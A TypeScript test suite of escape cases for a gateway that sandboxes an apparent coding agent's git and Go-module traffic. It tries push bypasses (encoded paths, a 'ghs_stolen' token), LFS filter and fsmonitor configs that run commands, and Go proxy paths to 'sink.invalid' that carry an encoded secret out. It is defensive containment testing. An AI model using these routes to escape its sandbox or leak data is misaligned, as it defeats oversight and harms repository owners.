import { existsSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { presetRules, readPresets } from '../../src/policy/presets.ts';
import { ask } from '../e2e/door-rig.ts';
import { POLICY } from '../git/quarantine-world.ts';
import { gitAs } from '../git/repositories.ts';
import type { EscapeCase } from './cases.ts';
import { shared } from './shared.ts';
import type { WaysTarget } from './ways-out-rig.ts';

type Case = EscapeCase<WaysTarget>;

// ── Row 42: pushing from inside ─────────────────────────────────────────────────────────────────────────────────────

const REPOSITORY = '/acme/widget.git';
const UPLOAD = `${REPOSITORY}/info/refs?service=git-upload-pack`;

const PUSHES: readonly (readonly [name: string, method: string, path: string])[] = [
  ['the service of a push', 'GET', `${REPOSITORY}/info/refs?service=git-receive-pack`],
  ['a push', 'POST', `${REPOSITORY}/git-receive-pack`],
  ['two services in one query', 'GET', `${REPOSITORY}/info/refs?service=git-upload-pack&service=git-receive-pack`],
  ['the push before the fetch', 'GET', `${REPOSITORY}/info/refs?service=git-receive-pack&service=git-upload-pack`],
  ['an encoded service', 'GET', `${REPOSITORY}/info/refs?service=git%2Dreceive-pack`],
  ['a push behind a query that fetches', 'POST', `${REPOSITORY}/git-receive-pack?/git-upload-pack`],
  ['an encoded path', 'POST', `${REPOSITORY}/git%2Dreceive-pack`],
  ['a path in capitals', 'POST', `${REPOSITORY}/GIT-RECEIVE-PACK`],
  ['a path with a doubled slash', 'POST', `/acme//widget.git/git-receive-pack`],
  ['another repository', 'GET', '/acme/other.git/info/refs?service=git-upload-pack'],
  ['another repository behind dots', 'GET', '/acme/widget.git/../other.git/info/refs?service=git-upload-pack'],
  ['files of the mirror', 'GET', `${REPOSITORY}/config`],
];

const asked = (socket: string, method: string, path: string): Promise<number> =>
  new Promise((resolve, reject) => {
    const sent = request({ socketPath: socket, method, path }, (answer) => {
      answer.resume();
      resolve(answer.statusCode ?? 0);
    });
    sent.once('error', reject);
    sent.end(method === 'POST' ? '0000' : '');
  });

const pushes = PUSHES.map(
  ([name, method, path]): Case => ({
    row: 42,
    name,
    attempt: `${method} ${path} on the door’s way to git`,
    expected: '403 or 404, and the mirror is as it was',
    async run({ socket, mirror }) {
      const before = gitAs(mirror, ['for-each-ref']);
      const status = await asked(socket, method, path);
      const control = await asked(socket, 'GET', UPLOAD);
      return {
        held: [403, 404].includes(status) && gitAs(mirror, ['for-each-ref']) === before,
        seen: String(status),
        control: { worked: control === 200, how: `a fetch is served: ${control}` },
      };
    },
  }),
);

const CLIENT_PUSHES: readonly (readonly [name: string, url: string, ref: string])[] = [
  ['to GitHub’s own name', 'https://github.test/acme/widget.git', 'HEAD:refs/heads/evil'],
  ['over the base branch', 'https://github.test/acme/widget.git', '+HEAD:refs/heads/main'],
  ['with a token of its own', 'https://x-access-token:ghs_stolen@github.test/acme/widget.git', 'HEAD:refs/heads/evil'],
  ['on the git route', 'http://git.coatcheck.internal/acme/widget.git', 'HEAD:refs/heads/evil'],
  ['to a fork', 'https://github.test/mallory/widget.git', 'HEAD:refs/heads/evil'],
];

/** A clone by the real client through the door, as a sandbox would make it. */
const cloned = shared(async ({ own }: WaysTarget) => {
  const { code, said } = await own.git('clone', '--quiet', 'https://github.test/acme/widget.git', own.clone);
  if (code === 0) await own.git('-C', own.clone, 'commit', '--quiet', '--allow-empty', '-m', 'evil');
  return { code, said };
});

const clientPushes = CLIENT_PUSHES.map(
  ([name, url, ref]): Case => ({
    row: 42,
    name: `git push ${name}`,
    attempt: `the real client, through the door: git push ${url} ${ref}`,
    expected: 'refused by the door, and the repository is as it was; a clone and a fetch by the same client are served',
    async run(target) {
      const { own, mirror } = target;
      const clone = await cloned(target);
      const before = gitAs(mirror, ['for-each-ref']);
      const known = own.rows.length;
      const push = await own.git('-C', own.clone, 'push', url, ref);
      const same = gitAs(mirror, ['for-each-ref']) === before;
      const decided = own.rows.slice(known).filter(({ verdict }) => verdict === 'refused');
      const fetched = await own.git('-C', own.clone, 'fetch', '--quiet', 'origin');
      return {
        held: push.code !== 0 && same && decided.length > 0,
        seen: `${push.code}: ${push.said.trim()}; ${decided[0]?.reason ?? 'no row'}`,
        control: {
          worked: clone.code === 0 && fetched.code === 0,
          how: `clone ${clone.code} ${clone.said}, fetch ${fetched.code} ${fetched.said}`,
        },
      };
    },
  }),
);

// ── Row 40: LFS and its filters ────────────────────────────────────────────────────────────────────────────────

const POINTER = 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n';
const MARKED: readonly (readonly [name: string, config: (marker: string) => string, springs: string])[] = [
  [
    'Large File Storage',
    (marker) => `[filter "lfs"]\n\tclean = "touch ${marker}; cat"\n\tsmudge = "touch ${marker}; cat"\n`,
    'rm data.bin; git checkout -- data.bin',
  ],
  [
    'Large File Storage as a process that stays',
    (marker) => `[filter "lfs"]\n\tprocess = "touch ${marker}; cat"\n`,
    'rm data.bin; git checkout -- data.bin',
  ],
];

const filters = MARKED.map(
  ([name, config, springs]): Case => ({
    row: 40,
    name,
    attempt: `the tree names ${name}, and the configuration of the trusted user’s home defines it`,
    expected: 'pointers stay pointers and nothing is run on the way of the change',
    async run({ git }) {
      const agent = git.agent();
      agent.write('.gitattributes', '*.bin filter=lfs\n');
      agent.write('data.bin', POINTER);
      gitAs(agent.tree, ['add', '-A']);
      writeFileSync(join(agent.home, '.gitconfig'), config(agent.marker));
      const policy = { ...POLICY, protected_path: 'note' } as const;
      const passed = await git.pass(agent, { HOME: agent.home }, { policy });
      const ran = existsSync(agent.marker);
      rmSync(agent.marker, { force: true });
      git.unguarded(agent, springs);
      return {
        held: !ran && passed.published !== null && git.contentOf(passed.published).includes('git-lfs.github.com/spec'),
        seen: `${passed.why}; ${ran ? 'something ran' : 'nothing ran'}`,
        control: { worked: existsSync(agent.marker), how: `plain git runs it: ${springs}` },
      };
    },
  }),
);

// ── Row 58: registries that fetch what the caller names ─────────────────────────────────────────────────────────────

const HASH = `h1:${'A'.repeat(43)}=`;
const GO_SUM = `example.com/known v1.2.3 ${HASH}\nexample.com/known v1.2.3/go.mod ${HASH}\n`;
const KNOWN = '/example.com/known/@v/v1.2.3.zip';

const MODULES: readonly (readonly [name: string, path: string])[] = [
  ['a module of the attacker’s', '/sink.invalid/c2VjcmV0/@v/v0.0.1.info'],
  ['the list of an attacker’s module', '/sink.invalid/c2VjcmV0/@v/list'],
  ['the newest of an attacker’s module', '/sink.invalid/c2VjcmV0/@latest'],
  ['another version of a known module', '/example.com/known/@v/v1.2.4.zip'],
  ['a made-up version of a known module', '/example.com/known/@v/v0.0.0-20260101000000-c2VjcmV0c2Vj.info'],
  ['a known path with a query', `${KNOWN}?x=c2VjcmV0`],
  ['the list of a known module', '/example.com/known/@v/list'],
  ['a path below a known one', `${KNOWN}/c2VjcmV0`],
];

const modules = MODULES.map(
  ([name, path]): Case => ({
    row: 58,
    name,
    attempt: `the public Go proxy is asked for ${path}, which it would fetch from the origin in the path`,
    expected: 'refused at the door; what the base’s go.sum names passes',
    async run({ go }) {
      const place = `proxy.golang.org:${go.port}`;
      const before = go.sink.requests.length;
      const answer = await ask(go.door, place, path);
      const sent = go.sink.requests.length - before;
      const control = await ask(go.door, place, KNOWN);
      return {
        held: answer.status === 403 && sent === 0,
        seen: `${answer.status}, ${sent} requests outside`,
        control: { worked: control.status === 200, how: `of go.sum: ${control.status}` },
      };
    },
  }),
);

const withoutLock: Case = {
  row: 58,
  name: 'a repository without a lock file',
  attempt: 'the preset is open and the base has no go.sum',
  expected: 'nothing of the public proxy is open',
  async run() {
    const preset = readPresets(['go']).get('go');
    const rules = (lock: string | null) => (preset === undefined ? [] : presetRules(preset, lock));
    const paths = rules(GO_SUM).flatMap((rule) => rule.paths);
    return {
      held: rules(null).length === 0,
      seen: `${rules(null).length} rules`,
      control: { worked: paths.includes(KNOWN), how: `with one: ${paths.length} paths` },
    };
  },
};

const linked: Case = {
  row: 40,
  name: 'a repository within the repository, as a submodule',
  attempt: 'the agent adds a repository of its own to the index as a link to a commit',
  expected: 'left out of what is published, and never opened',
  async run({ git }) {
    const agent = git.agent();
    const nested = join(agent.tree, 'nested');
    gitAs(agent.tree, ['init', '--quiet', nested]);
    writeFileSync(join(nested, '.git/config'), `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${agent.program}\n`);
    gitAs(agent.tree, ['update-index', '--add', '--cacheinfo', `160000,${git.world.base},nested`]);
    const passed = await git.pass(agent);
    const ran = existsSync(agent.marker);
    const tree = passed.published === null ? '' : gitAs(git.world.upstream, ['ls-tree', passed.published]);
    git.unguarded(agent, 'git status');
    return {
      held: passed.published !== null && !ran && !tree.includes('160000'),
      seen: `${passed.why}; ${ran ? 'something ran' : 'nothing ran'}`,
      control: { worked: existsSync(agent.marker), how: 'plain git status opens it and runs what it configures' },
    };
  },
};

export const CASES: readonly Case[] = [...pushes, ...clientPushes, ...filters, linked, ...modules, withoutLock];
export { GO_SUM };
